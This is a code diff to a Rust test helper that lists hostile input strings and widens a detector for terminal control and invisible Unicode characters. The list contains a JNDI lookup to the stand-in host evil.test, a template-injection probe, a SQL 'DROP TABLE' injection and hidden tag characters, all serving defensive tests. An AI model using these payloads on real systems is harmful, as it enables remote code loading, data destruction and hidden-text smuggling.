@@ -26,7 +26,7 @@ fn hostile() -> Vec<String> {
         "\u{2066}isolate\u{2069}\u{200f}",
         "bell\u{7}backspace\u{8}delete\u{7f}",
         "line\r\noverwritten\rby this",
-        "\u{feff}mark",
+        "\u{feff}mark\u{200b}\u{e0041}\u{e007f}",
         "NUL in text: \\u0000",
         "{{ 7 * 7 }} ${jndi:ldap://evil.test/a}",
         "'; DROP TABLE emails; --",
@@ -47,7 +47,8 @@ fn hostile() -> Vec<String> {
 /// The characters that a terminal would interpret.
 fn has_controls(text: &str) -> bool {
     let is_marked = |c: char| matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
-    text.chars().any(|c| (c.is_control() && c != '\n') || is_marked(c))
+    let is_hidden = |c: char| matches!(c, '\u{200b}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}');
+    text.chars().any(|c| (c.is_control() && c != '\n') || is_marked(c) || is_hidden(c))
 }
 
 /// Most bytes of an answer: 40 000 characters, escaped.
